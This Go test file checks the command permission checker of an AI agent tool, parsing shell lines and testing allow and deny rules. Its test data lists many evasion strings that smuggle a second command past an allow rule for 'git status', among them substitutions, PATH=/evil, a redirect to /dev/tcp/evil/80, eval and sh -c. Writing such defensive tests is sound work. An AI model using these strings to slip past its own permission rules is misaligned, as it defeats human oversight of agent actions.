package permission

import (
	"reflect"
	"slices"
	"strings"
	"testing"

	"github.com/agent-ls/agent-ls/tools"
)

func TestPlainCommands(t *testing.T) {
	cases := []struct {
		line string
		want [][]string
	}{
		{"git status", [][]string{{"git", "status"}}},
		{"  git\tstatus  # note", [][]string{{"git", "status"}}},
		{"a && b || c; d | e |& f\ng", [][]string{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}, {"f"}, {"g"}}},
		{"(a; b); { c; }", [][]string{{"a"}, {"b"}, {"c"}}},
		{"if a; then b; elif c; then d; else e; fi", [][]string{{"a"}, {"b"}, {"c"}, {"d"}, {"e"}}},
		{"while a; do b; done; until c; do d; done", [][]string{{"a"}, {"b"}, {"c"}, {"d"}}},
		{"for f in x y; do a; done", [][]string{{"a"}}},
		{"case x in y|z) a;; *) b;; esac", [][]string{{"a"}, {"b"}}},
		{"! a", [][]string{{"a"}}},
		{"a 2>&1 >/dev/null </dev/null 2>/dev/null &>/dev/null", [][]string{{"a"}}},
		{"cat <<'EOF'\n$(x) `y` ${z}\nEOF", [][]string{{"cat"}}},
		{"cat <<EOF\nplain\nEOF", [][]string{{"cat"}}},
		{"cat <<-\\EOF\n\t$(x)\n\tEOF", [][]string{{"cat"}}},
		{"cat <<< word", [][]string{{"cat"}}},
		{`g''it "sta"tus`, [][]string{{"git", "status"}}},
		{"git \\\n  status", [][]string{{"git", "status"}}},
		{"gi\\\nt status", [][]string{{"git", "status"}}},
		{`a \$x '$y' "\$z" "a\b" "\\"`, [][]string{{"a", "$x", "$y", "$z", `a\\b`, `\\`}}},
		{`a *.go '*.go' \*.go "?" ~/x '~/x' {} 'a{b,c}'`, [][]string{{"a", "*.go", `\*.go`, `\*.go`, `\?`, "~/x", `\~/x`, "{}", `a\{b,c\}`}}},
		{"a ''", [][]string{{"a", ""}}},
		{"grüße 日本", [][]string{{"grüße", "日本"}}},
	}
	for _, c := range cases {
		commands, err := plainCommands(c.line)
		if err != nil {
			t.Errorf("%q: %v", c.line, err)
			continue
		}
		var got [][]string
		for _, s := range commands {
			got = append(got, s.words)
		}
		if !reflect.DeepEqual(got, c.want) {
			t.Errorf("%q: %q, want %q", c.line, got, c.want)
		}
	}
}

// escapes are lines around "git status" that run or change something else;
// none of them may be covered by a rule for it.
var escapes = map[string]string{
	// substitutions and expansions
	"git status $(touch x)":         "an expansion",
	"git status `touch x`":          "an expansion",
	"git status \"$(touch x)\"":     "an expansion",
	"git status \"`touch x`\"":      "an expansion",
	"git status <(touch x)":         "an expansion",
	"git status >(touch x)":         "an expansion",
	"git status ${x:-$(touch x)}":   "an expansion",
	"git status ${x@P}":             "an expansion",
	"git status ${!x}":              "an expansion",
	"git status $x":                 "an expansion",
	"git status $((a[$(touch x)]))": "an expansion",
	"git status $((PATH=1))":        "an expansion",
	"git status $[1]":               "an expansion",
	"git status {a,--exec=b}":       "brace",
	"git status {1..3}":             "brace",
	"{git,status}":                  "brace",
	"git status @(a|b)":             "an expansion",
	"git status $'\\x2d'":           "escapes",
	"git status $\"x\"":             "translated",
	"$git status":                   "an expansion",
	"g$x status":                    "an expansion",
	"${x} status":                   "an expansion",
	"git status ${ touch x; }":      "an expansion",
	// assignments
	"PATH=/evil git status":                    "sets a variable",
	"x=$(touch x)":                             "sets a variable",
	"PATH=/evil; git status":                   "sets a variable",
	"a[$(touch x)]=1 git status":               "cannot be parsed",
	"git status; x=1":                          "sets a variable",
	"for PATH in /evil; do git status; done":   "plain variable",
	"for ((i=0;i<1;i++)); do git status; done": "plain variable",
	"for f in $(touch x); do git status; done": "an expansion",
	"select f in a; do git status; done":       "plain variable",
	"git status {fd}>/dev/null":                "sets a variable",
	// redirections
	"git status > x":                    "redirects",
	"git status >> x":                   "redirects",
	"git status >| x":                   "redirects",
	"git status 2> x":                   "redirects",
	"git status &> x":                   "redirects",
	"git status &>> x":                  "redirects",
	"git status >& x":                   "redirects",
	"git status <> x":                   "redirects",
	"git status < x":                    "redirects",
	"git status > /dev/null/../x":       "redirects",
	"git status > /dev/tcp/evil/80":     "redirects",
	"git status > \"$x\"":               "an expansion",
	"(git status) > x":                  "redirects",
	"> x":                               "redirects",
	"git status <<EOF\n$(touch x)\nEOF": "here-document",
	"git status <<EOF\n`touch x`\nEOF":  "here-document",
	"git status <<EOF\n${x:-$(y)}\nEOF": "here-document",
	"git status <<< $(touch x)":         "an expansion",
	// constructs
	"git status & touch x":                  "background",
	"git status &":                          "background",
	"f() { touch x; }; git status":          "construct",
	"function git { touch x; }; git status": "construct",
	"git() { touch x; }\ngit status":        "construct",
	"coproc git status":                     "construct",
	"time git status":                       "construct",
	"[[ -n $(touch x) ]]":                   "construct",
	"((x=1))":                               "construct",
	"let x=1":                               "construct",
	"declare x=1":                           "construct",
	"export PATH=/evil; git status":         "construct",
	"{ git status; } <<< x":                 "more than one",
	// text that is read in two ways
	"git status\x00touch x":    "U+0000",
	"git status\r\ntouch x":    "U+000D",
	"git\u00a0status":          "U+00A0",
	"git status \u202etxet":    "U+202E",
	"git status \u200b":        "U+200B",
	"git status \u2028touch x": "U+2028",
	"git status \x1b[2K":       "U+001B",
	"git status \xff":          "UTF-8",
	"git status \\":            "backslash",
	"git status '":             "cannot be parsed",
	"git status \"":            "cannot be parsed",
	"git status (":             "cannot be parsed",
	"git status; )":            "cannot be parsed",
	"if git status":            "cannot be parsed",
	"":                         "no command",
	"# git status":             "no command",
	"git status " + strings.Repeat("x", maxLine): "longer than",
}

func TestNothingUnseenIsPlain(t *testing.T) {
	for line, want := range escapes {
		commands, err := plainCommands(line)
		if err == nil || !strings.Contains(err.Error(), want) {
			t.Errorf("%q: %+v, error %v does not say %q", line, commands, err, want)
		}
	}
}

// gitStatus is the rule that all attacks are tried against.
var gitStatus = []Rule{allow(tools.AccessExecute, "git status")}

func TestCoverage(t *testing.T) {
	r := newRoom(t, AskMode)
	python := allow(tools.AccessExecute, "python3 tool.py")
	cases := []struct {
		rules []Rule
		line  string
		want  bool
	}{
		{gitStatus, "git status", true},
		{gitStatus, "git status -s --porcelain=v2 sub", true},
		{gitStatus, "git status; git status && git status || git status | git status", true},
		{gitStatus, "cd sub && git status", true},
		{gitStatus, "cd ./sub; git status", true},
		{gitStatus, "(cd sub && git status)", true},
		{gitStatus, "while git status; do git status; done", true},
		{gitStatus, "for i in 1 2; do git status; done", true},
		{gitStatus, "git status <<'EOF'\n$(x)\nEOF", true},
		{gitStatus, "git status *.go", false},
		{gitStatus, "git status src/*.go", true},
		{gitStatus, "git status '*.go'", true},
		{gitStatus, "git status ~/x", false},
		{gitStatus, "git  statusx", false},
		{gitStatus, "git", false},
		{gitStatus, "git log", false},
		{gitStatus, "./git status", false},
		{gitStatus, "/tmp/git status", false},
		{gitStatus, "GIT status", false},
		{gitStatus, "git status | tee x", false},
		{gitStatus, "git status; rm x", false},
		{gitStatus, "git status\nrm x", false},
		{gitStatus, "git status || rm x", false},
		{gitStatus, "true", false},
		{gitStatus, "cd sub", false},
		{gitStatus, "cd && git status", false},
		{gitStatus, "cd .. && git status", false},
		{gitStatus, "cd sub && cd .. && git status", false},
		{gitStatus, "cd / && git status", false},
		{gitStatus, "cd - && git status", false},
		{gitStatus, "cd ~ && git status", false},
		{gitStatus, "cd su* && git status", false},
		{gitStatus, "cd -P sub && git status", false},
		{gitStatus, "cd '' && git status", false},
		{gitStatus, "pushd sub && git status", false},
		// options that make a program run another one, or write
		{gitStatus, "git status --upload-pack=x", false},
		{gitStatus, "git status --ext-diff", false},
		{gitStatus, "git status --output=x", false},
		{gitStatus, "git status -ox", false},
		{gitStatus, "git status \"--exec\" x", false},
		{gitStatus, "git status \\--exec x", false},
		{gitStatus, "git status SHELL=/evil", false},
		{[]Rule{allow(tools.AccessExecute, "go test")}, "go test -exec=x ./...", false},
		{[]Rule{allow(tools.AccessExecute, "go test")}, "go test -toolexec x ./...", false},
		{[]Rule{allow(tools.AccessExecute, "go test")}, "go test -run 'TestA|TestB' -count=1 -v ./...", true},
		{[]Rule{allow(tools.AccessExecute, "find src")}, "find src -name '*.go'", true},
		{[]Rule{allow(tools.AccessExecute, "find src")}, "find src -exec rm {} +", false},
		{[]Rule{allow(tools.AccessExecute, "find src")}, "find src -delete", false},
		{[]Rule{allow(tools.AccessExecute, "find src")}, "find src -fprintf x %p", false},
		// what the rule itself names is its author's will
		{[]Rule{allow(tools.AccessExecute, "git log --output=x")}, "git log --output=x -1", true},
		// programs that run others are covered by no name
		{[]Rule{allow(tools.AccessExecute, "sudo"), allow(tools.AccessExecute, "git")}, "sudo git status", false},
		{[]Rule{allow(tools.AccessExecute, "env")}, "env git status", false},
		{[]Rule{allow(tools.AccessExecute, "sh")}, "sh -c 'touch x'", false},
		{[]Rule{allow(tools.AccessExecute, "/bin/sh")}, "/bin/sh x", false},
		{[]Rule{allow(tools.AccessExecute, "xargs")}, "xargs rm", false},
		{[]Rule{allow(tools.AccessExecute, "eval")}, "eval 'touch x'", false},
		{[]Rule{allow(tools.AccessExecute, "command")}, "command touch x", false},
		{[]Rule{allow(tools.AccessExecute, "printf")}, "printf -v PATH /evil", false},
		{[]Rule{allow(tools.AccessExecute, "echo"), allow(tools.AccessExecute, "sh")}, "echo x | sh", false},
		// interpreters need a script, and get no code
		{[]Rule{allow(tools.AccessExecute, "python3")}, "python3 x.py", false},
		{[]Rule{python}, "python3 tool.py a b", true},
		{[]Rule{python}, "python3 tool.py -c x", false},
		{[]Rule{python}, "python3 tool.py <<'EOF'\nx\nEOF", false},
		// a relative program is another one in another folder
		{[]Rule{allow(tools.AccessExecute, "./x.sh")}, "./x.sh a", true},
		{[]Rule{allow(tools.AccessExecute, "./x.sh")}, "cd sub && ./x.sh a", false},
		// a rule for the quoted word is not one for what it would expand to
		{[]Rule{allow(tools.AccessExecute, "rm '*'")}, "rm *", false},
		{[]Rule{allow(tools.AccessExecute, "rm '*'")}, `rm \*`, true},
		{[]Rule{allow(tools.AccessExecute, "ls '~'")}, "ls ~", false},
		// rules that are none
		{[]Rule{allow(tools.AccessExecute, "a && b")}, "a && b", false},
		{[]Rule{allow(tools.AccessExecute, "g?t")}, "g?t status", false},
		{nil, "git status", false},
	}
	for _, c := range cases {
		if got := r.lineCovered(c.rules, c.line, ""); got != c.want {
			t.Errorf("%q under %v: %v", c.line, c.rules, got)
		}
	}
	for line := range escapes {
		if r.lineCovered(gitStatus, line, "") {
			t.Errorf("%q is covered", line)
		}
	}
}

func TestCoverageInFolders(t *testing.T) {
	r := newRoom(t, AskMode)
	exact := Rule{Effect: EffectAllow, Kind: tools.AccessExecute, Pattern: "make all", Exact: true}
	inSub := exact
	inSub.Dir = r.place("sub").real
	script := allow(tools.AccessExecute, "./x")
	cases := []struct {
		rules     []Rule
		line, dir string
		want      bool
	}{
		{gitStatus, "git status", "sub", true},
		{gitStatus, "git status", r.outside, false},
		{gitStatus, "cd .. && git status", "sub", true},
		{gitStatus, "cd .. && git status", "", false},
		{[]Rule{exact}, "make all", ".", true},
		{[]Rule{exact}, "make all", "sub", false},
		{[]Rule{exact}, "git status && make all", "", false},
		{[]Rule{exact, gitStatus[0]}, "git status && make all", "", true},
		{[]Rule{exact, gitStatus[0]}, "git status && make all", "sub", false},
		{[]Rule{inSub, gitStatus[0]}, "git status && make all", "sub", true},
		{[]Rule{inSub}, "make all", "", false},
		{[]Rule{inSub}, "cd sub && make all", "", false},
		{[]Rule{script}, "./x", "", true},
		{[]Rule{script}, "./x", "sub", false},
	}
	for _, c := range cases {
		if got := r.lineCovered(c.rules, c.line, c.dir); got != c.want {
			t.Errorf("%q in %q under %+v: %v", c.line, c.dir, c.rules, got)
		}
	}
}

// A deny rule finds its command wherever a line runs it.
func TestDenyFindsCommands(t *testing.T) {
	push := deny(tools.AccessExecute, "git push")
	exact := Rule{Effect: EffectDeny, Kind: tools.AccessExecute, Pattern: "rm -rf x", Exact: true}
	yes := []string{
		"git push", "git push origin main", "git  'push'", "g\\it push", "/usr/bin/git push", "git -C dir push", "git --no-pager -c a=b push -f",
		"a && git push", "a; git push", "a | git push", "(git push)", "{ git push; }", "git push &", "! git push", "time git push",
		"if a; then git push; fi", "while git push; do :; done", "for x in y; do git push; done", "case x in *) git push;; esac",
		"f() { git push; }; f", "coproc git push", "echo $(git push)", "echo `git push`", "echo \"$(git push)\"", "x=$(git push)", "cat <(git push)",
		"echo ${x:-$(git push)}", "cat <<EOF\n$(git push)\nEOF", "X=1 git push", "git push > x", "[[ -n $(git push) ]]", "export X=$(git push)",
		"sudo git push", "sudo -u root git push", "env X=1 git push", "timeout 5 git push", "xargs git push", "nohup git push &",
		"sh -c 'git push'", "bash -c \"a; git push\"", "eval 'git push'", "eval git push", "sudo sh -c 'env git push'", "sh <<'EOF'\ngit push\nEOF",
		"git push (", "a\ng\\it push\n(", "git push '", "echo \"$(git push\"",
	}
	no := []string{
		"git status", "git pushx", "echo git push", "git commit -m push", "git log push", "gitpush", "# git push", "echo 'git push'", "xgit push",
		"git", "", "git status (",
	}
	for _, line := range yes {
		if !deniesLine(push, line) {
			t.Errorf("%q is not denied", line)
		}
	}
	for _, line := range no {
		if deniesLine(push, line) {
			t.Errorf("%q is denied", line)
		}
	}
	for line, want := range map[string]bool{"rm -rf x": true, "a; rm  -rf 'x'": true, "rm -rf x y": false, "rm -rf": false, " rm -rf x ": true} {
		if deniesLine(exact, line) != want {
			t.Errorf("exact rule, %q: %v", line, !want)
		}
	}
	whole := Rule{Effect: EffectDeny, Kind: tools.AccessExecute, Pattern: "a > b", Exact: true}
	if !deniesLine(whole, "a > b") || deniesLine(whole, "a") {
		t.Error("the exact rule of a whole line")
	}
}

func TestNestingIsBounded(t *testing.T) {
	line := "git push"
	for range 40 {
		line = "eval " + shellJoin([]string{line})
		if len(line) > 1<<20 {
			break
		}
	}
	deniesLine(deny(tools.AccessExecute, "git push"), line)
}

func TestPrefixesSurviveTheirSpelling(t *testing.T) {
	for _, line := range []string{"git status", "npm run 'a b'", `npm run "it's"`, `npm run 'a$b'`, "npm run ''", `npm run 'a"b'`} {
		commands, err := plainCommands(line)
		if err != nil {
			t.Fatal(err)
		}
		again, err := patternWords(shellJoin(commands[0].words))
		if err != nil || !slices.Equal(again, commands[0].words) {
			t.Errorf("%s: %q, %v", line, again, err)
		}
	}
}
